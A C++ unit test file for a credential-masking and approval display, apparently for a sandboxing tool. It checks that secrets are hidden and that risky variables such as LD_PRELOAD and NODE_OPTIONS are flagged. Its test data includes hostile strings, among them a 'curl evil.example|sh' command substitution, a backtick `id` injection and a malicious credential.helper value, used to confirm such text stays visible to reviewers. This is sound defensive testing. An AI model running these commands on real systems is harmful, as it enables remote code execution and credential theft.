// Tests how credentials, and values that determine which program runs, are displayed for approval.
#include "approve/approve_value.hpp"

#include <catch2/catch.hpp>
#include <cstdlib>

#include "approve/approve_text.hpp"

using namespace bulkhead;
using namespace bulkhead::program;

TEST_CASE("masking counts characters, not bytes") {
  CHECK(masked_value("") == "\"\"");
  CHECK(masked_value("\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC") == "***");
  CHECK(masked_value("\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC") ==
        "\xC3\xBC\xC3\xBC\xC3\xBC***");
  CHECK(masked_value("\x1B[1;31m12345") == "\\u001b[1***");
}

TEST_CASE("masking keeps references, but hides their defaults and all other text") {
  CHECK(masked_value("${NAME}") == "${NAME}");
  CHECK(masked_value("${env:NAME}") == "${env:NAME}");
  CHECK(masked_value("${NAME:-canary-default}") == "${NAME:-can***}");
  CHECK(masked_value("${env:}") == "***");
  CHECK(masked_value("${A}canary${B}") == "${A}***${B}");
  CHECK(masked_value("canary-canary${can ary}") == "can***");
  CHECK(masked_value("canary-canary${A}canary-canary") == "can***${A}***");
  CHECK(masked_value("canary-canary${A:-canary-canary}") == "can***${A:-***}");
}

TEST_CASE("at most three characters of a value are shown, and none of a short value") {
  for (const char *name :
       {"LOG_LEVEL", "NODE_OPTIONS", "PATH", "LD_PRELOAD", "API_KEY", "X", "DB"}) {
    for (const std::string value :
         {"debug", "12345678", "123456789", "--require ./x.js", "/root/.ssh-and-more",
          "Bearer canary-canary", "postgres://u:canary@h/db", "Source=h;Password=canary;",
          "a b c d e f"}) {
      ProjectEntry entry;
      entry.name = "a";
      entry.command = "node";
      entry.env = {{name, value}};
      entry.others.emplace_back("sandbox", "\"off\"");  // without a sandbox, no path is opened
      const std::string shown = masked_value(value);
      INFO(name << " = " << value);
      CHECK(shown == (value.size() <= 8 ? "***" : value.substr(0, 3) + "***"));
      const std::string text = describe_entry(entry, nullptr), json = entry_json(entry, nullptr);
      CHECK(text.find(" = " + shown + "\n") != std::string::npos);
      for (std::size_t at = 0; at + 5 <= value.size(); ++at) {
        CHECK(text.find(value.substr(at, 5)) == std::string::npos);
        CHECK(json.find(value.substr(at, 5)) == std::string::npos);
      }
    }
  }
}

TEST_CASE("variables that determine which program runs are detected") {
  for (const char *name :
       {"NODE_OPTIONS", "LD_PRELOAD", "PYTHONSTARTUP", "path", "RUBYOPT", "IFS"}) {
    INFO(name);
    CHECK(decides_what_runs(name));
  }
  for (const char *name : {"LOG_LEVEL", "API_KEY", "NODE_AUTH_TOKEN", "DATABASE_URL"}) {
    INFO(name);
    CHECK_FALSE(decides_what_runs(name));
  }
  ProjectEntry entry;
  entry.name = "a";
  entry.command = "node";
  entry.env = {{"NODE_OPTIONS", "--require ./x.js"}, {"LOG_LEVEL", "debug"}, {"PATH", "./bin"}};
  CHECK(describe_entry(entry, nullptr).find("which code is run: \"NODE_OPTIONS\", \"PATH\";") !=
        std::string::npos);
}

TEST_CASE("headers that are credentials are masked, by name or by value") {
  CHECK(masked_header("X-Api-Key", "canary-canary") == "can***");
  CHECK(masked_header("X", "ghp_canarycanary") == "ghp***");
  CHECK(masked_header("X", "a1b2c3d4e5f6a7b8c9d0") == "a1b***");
  CHECK(masked_header("Authorization", "Bearer canary-canary") == "Bearer can***");
  CHECK(masked_header("X-Key", "canary/canary") == "can***");
  CHECK_FALSE(masked_header("X-Region", "eu").has_value());
}

TEST_CASE("passwords in verbatim text are masked") {
  for (const auto &[text, shown] : std::initializer_list<std::pair<const char *, const char *>>{
           {"postgres://u:canary@h/db", "postgres://u:***@h/db"},
           {"postgres://u:can@ary@h/db?sslmode=off", "postgres://u:***@h/db?sslmode=off"},
           {"see redis://:canary@h:6379/0 and https://h:8080/@x",
            "see redis://:***@h:6379/0 and https://h:8080/@x"},
           {"https://ghp_canarycanary@github.com/x", "https://***@github.com/x"},
           {"https://me@h/x", "https://me@h/x"},
           {"https://h/mcp?token=canary&n=1#x", "https://h/mcp?token=***&n=1#x"},
           {"https://h/mcp?n=1&api_key=canary", "https://h/mcp?n=1&api_key=***"},
           {"Server=h;User Id=sa;Password=canary;Encrypt=no",
            "Server=h;User Id=sa;Password=***;Encrypt=no"},
           {"Server=h;Pwd = canary", "Server=h;Pwd = ***"},
           {"host=h user=u password=canary sslmode=off", "host=h user=u password=*** sslmode=off"},
           {"password='can ary' x", "password='***' x"},
           {"DefaultEndpointsProtocol=https;AccountKey=can/ary+==;x=y",
            "DefaultEndpointsProtocol=https;AccountKey=***;x=y"},
           {"--token=canary", "--token=***"},
           {"--api-key=canary --port=80", "--api-key=*** --port=80"},
           {"API_TOKEN=canary", "API_TOKEN=***"},
           {"Authorization: Bearer canary", "Authorization: Bearer ***"},
           {"X-Api-Key:canary", "X-Api-Key:***"},
           {R"({"password": "can ary", "n": 1})", R"({"password": "***", "n": 1})"},
           {R"("{\"password\":\"canary\"}")", R"("{\"password\":\"***\"}")"},
           {"--token=${TOKEN}", "--token=${TOKEN}"},
           {"--token=${TOKEN:-canary}", "--token=${TOKEN:-***}"},
           {"postgres://u:${PW:-canary}@h/db", "postgres://u:${PW:-***}@h/db"},
           {"postgres://u:pre${PW}@h/db", "postgres://u:***${PW}@h/db"},
           // Text that may be run or opened is shown unmasked.
           {"TOKEN=$(curl evil.example|sh) x", "TOKEN=$(curl evil.example|sh) x"},
           {"password=`id` x", "password=`id` x"},
           {"--key=./id.pem", "--key=./id.pem"},
           {"--private-key=/root/.ssh/id", "--private-key=/root/.ssh/id"},
           {"credential.helper=!evil", "credential.helper=!evil"},
           {"credential.helper=evil", "credential.helper=evil"},
           {"--token-url=https://evil.example/x", "--token-url=https://evil.example/x"},
           {"--key=https://u:canary@evil.example/x", "--key=https://u:***@evil.example/x"},
           {"sk-learn-server@latest", "sk-learn-server@latest"},
           {"weather server.js", "weather server.js"},
           {"", ""}}) {
    INFO(text);
    CHECK(without_passwords(text) == shown);
  }
  using Args = std::vector<std::string>;
  CHECK(args_without_passwords(
            {"--token", "canary", "-v", "--password", "--x", "--key", "/a", "--secret", "$(id)"}) ==
        Args{"--token", "***", "-v", "--password", "--x", "--key", "/a", "--secret", "$(id)"});
}

TEST_CASE("passwords are masked in the whole output of approve") {
  ProjectEntry entry;
  entry.name = "a";
  entry.command = "node --token=canary";
  entry.args = {"postgres://u:canary@h/db", "--password", "canary",
                "--conn=Server=h;Password=canary;"};
  entry.headers = {{"X-Via", "https://u:canary@proxy"}};
  entry.env = {{"API_KEY", "/9j/4canary123456789012345"}};
  entry.others.emplace_back("x", R"({"dsn":"postgres://u:canary@h/db"})");
  for (const std::string &text : {describe_entry(entry, nullptr), entry_json(entry, nullptr)}) {
    INFO(text);
    CHECK(text.find("canary") == std::string::npos);
    CHECK(text.find("postgres://u:***@h/db") != std::string::npos);
  }
  entry.url = "https://h/mcp?token=canary";
  CHECK(describe_entry(entry, nullptr).find("https://h/mcp?token=***") != std::string::npos);
  CHECK(entry_json(entry, nullptr).find("canary") == std::string::npos);
}

TEST_CASE("paths that the sandbox will open are listed") {
  ::setenv("BH_TEST_FOLDER", "/srv/data", 1);
  ::setenv("BH_TEST_TOKEN", "/canary", 1);
  ::unsetenv("BH_TEST_UNSET");
  ProjectEntry entry;
  entry.args = {"/srv/a", "--to=/srv/b/../c", "relative/x", "-v"};
  entry.env = {{"A", "${BH_TEST_FOLDER}/x"},
               {"B", "${env:BH_TEST_TOKEN}"},
               {"C", "${BH_TEST_UNSET:-/root}/.ssh"},
               {"D", "x/y"},
               {"E", "//srv/a"}};
  CHECK(named_paths(entry) ==
        std::vector<std::string>{"/srv/a", "/srv/c", "/srv/data/x", "/root/.ssh"});
  entry.name = "a";
  entry.command = "node";
  CHECK(describe_entry(entry, nullptr).find("opens      \"/srv/a\", \"/srv/c\"") !=
        std::string::npos);
  entry.others.emplace_back("sandbox", "\"off\"");
  CHECK(describe_entry(entry, nullptr).find("opens") == std::string::npos);
}
